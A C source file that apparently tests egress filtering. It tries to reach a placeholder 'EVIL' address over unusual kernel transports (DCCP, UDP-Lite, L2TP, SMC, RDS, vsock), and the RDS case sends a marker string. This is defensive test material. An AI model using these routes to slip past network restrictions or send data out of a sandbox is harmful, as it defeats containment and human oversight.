// SPDX-License-Identifier: MIT
/* The less usual transports. A kernel that has no such module says `absent`. */
#include "egress.h"

#include <linux/dccp.h>
#include <linux/l2tp.h>
#include <linux/vm_sockets.h>
#include <poll.h>
#include <string.h>

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif
#define IPPROTO_SMC 256
#define IPPROTO_L2TP 115

static void dccp_connect(int)
{
	int fd = open_socket(AF_INET, SOCK_DCCP | SOCK_NONBLOCK, IPPROTO_DCCP);
	unsigned int service = htonl(DCCP_SERVICE);

	set_option(fd, SOL_DCCP, DCCP_SOCKOPT_SERVICE, &service, sizeof(service));
	connect_ipv4(fd, EVIL_IPV4);
}

static int dccp_connected(void)
{
	int fd = open_socket(AF_INET, SOCK_DCCP, IPPROTO_DCCP);
	unsigned int service = htonl(DCCP_SERVICE);

	set_option(fd, SOL_DCCP, DCCP_SOCKOPT_SERVICE, &service, sizeof(service));
	connect_ipv4(fd, EVIL_IPV4);
	return fd;
}

/* It has a peer, and does not look at the address. */
static void dccp_prepared_sendto(int fd)
{
	send_ipv4(fd, OK_IPV4);
}

static void udplite_sendto(int)
{
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), EVIL_IPV4);
}

static void udplite6_sendto(int)
{
	send_ipv6(open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_UDPLITE), EVIL_IPV6);
}

static struct sockaddr_l2tpip l2tp(const char *address)
{
	struct sockaddr_l2tpip destination = {.l2tp_family = AF_INET, .l2tp_conn_id = 7};

	destination.l2tp_addr = ipv4(address).sin_addr;
	return destination;
}

static void l2tp_sendto(int)
{
	struct sockaddr_l2tpip destination = l2tp(EVIL_IPV4);

	send_to(open_socket(AF_INET, SOCK_DGRAM, IPPROTO_L2TP), 0, &destination, sizeof(destination));
}

static void l2tp_connect_send(int)
{
	struct sockaddr_l2tpip here = l2tp(OUR_IPV4), destination = l2tp(EVIL_IPV4);
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_L2TP);

	step("bind", bind(fd, (struct sockaddr *)&here, sizeof(here)));
	connect_to(fd, &destination, sizeof(destination));
	send_to(fd, 0, NULL, 0);
}

static void l2tp6_sendto(int)
{
	struct sockaddr_l2tpip6 destination = {.l2tp_family = AF_INET6, .l2tp_conn_id = 7};

	destination.l2tp_addr = ipv6(EVIL_IPV6).sin6_addr;
	send_to(open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_L2TP), 0, &destination, sizeof(destination));
}

/* The address is IPv4, the socket is not. */
static void smc_connect(int)
{
	connect_ipv4(open_socket(AF_SMC, STREAM, 0), EVIL_IPV4);
}

static void smc_protocol_connect(int)
{
	connect_ipv4(open_socket(AF_INET, STREAM, IPPROTO_SMC), EVIL_IPV4);
}

/* A thread of the kernel opens a TCP connection to carry it. */
static void rds_sendto(int)
{
	int fd = open_socket(AF_RDS, SOCK_SEQPACKET, 0);
	struct sockaddr_in here = ipv4(OUR_IPV4), destination = ipv4(EVIL_IPV4);

	step("bind", bind(fd, (struct sockaddr *)&here, sizeof(here)));
	/* It refuses flags, so that send_to() can't be used. */
	step("sendto",
	     sendto(fd, self.marker, strlen(self.marker), 0, (struct sockaddr *)&destination, sizeof(destination)));
	poll(NULL, 0, 100);
}

/* To this very machine: no packet of IP at all. */
static void vsock_connect(int)
{
	struct sockaddr_vm destination = {
		.svm_family = AF_VSOCK,
		.svm_cid = VMADDR_CID_LOCAL,
		.svm_port = self.port,
	};

	connect_to(open_socket(AF_VSOCK, STREAM, 0), &destination, sizeof(destination));
}

const struct vector protocol_vectors[] = {
	{"dccp_connect", dccp_connect},
	{"dccp_prepared_sendto", dccp_prepared_sendto, dccp_connected, .listener = IPPROTO_DCCP},
	{"udplite_sendto", udplite_sendto},
	{"udplite6_sendto", udplite6_sendto},
	{"l2tp_sendto", l2tp_sendto},
	{"l2tp_connect_send", l2tp_connect_send},
	{"l2tp6_sendto", l2tp6_sendto},
	{"smc_connect", smc_connect},
	{"smc_protocol_connect", smc_protocol_connect},
	{"rds_sendto", rds_sendto, .port = PORT_RDS},
	{"vsock_connect", vsock_connect},
	{},
};
